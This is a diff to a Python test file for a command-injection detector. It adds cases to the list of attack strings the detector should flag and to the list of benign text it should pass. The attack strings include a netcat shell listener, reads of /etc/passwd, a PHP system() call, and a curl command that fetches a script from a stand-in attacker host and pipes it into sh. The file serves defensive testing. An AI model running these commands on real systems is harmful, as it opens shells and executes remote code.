@@ -21,7 +21,8 @@ from secmon.attacks import command
     ("nc -lvvp 4444 -e /bin/sh", "cmdi.shell_trick"),
     ("{cat,/etc/passwd}", "cmdi.shell_trick"),
     ("cat /etc/passwd", "cmdi.command_line"),
-    ("curl https://attacker.example/x", "cmdi.command_line"),
+    ("curl -s https://attacker.example/x | sh", "cmdi.command_line"),
+    ("whoami", "cmdi.command_line"),
     ("<?php system('id'); ?>", "cmdi.code_exec"),
 ])
 def test_commands(text: str, rule: str) -> None:
@@ -33,7 +34,7 @@ def test_commands(text: str, rule: str) -> None:
     "tom & jerry", "salt & pepper; more later", "home | about | contact", "r&d; type: shoes",
     "run `ls -la` to see files", "$(document).ready(function () {})", "curl examples",
     "bash scripting tutorial", "curl/8.5.0", "ping me on slack", "i love dogs; cat people too",
-    "{a,b} destructuring", "exec summary template",
+    "{a,b} destructuring", "exec summary template", "curl -X POST https://api.example.com/v1",
 ])
 def test_ordinary_text(text: str) -> None:
     assert command.detect(text) is None
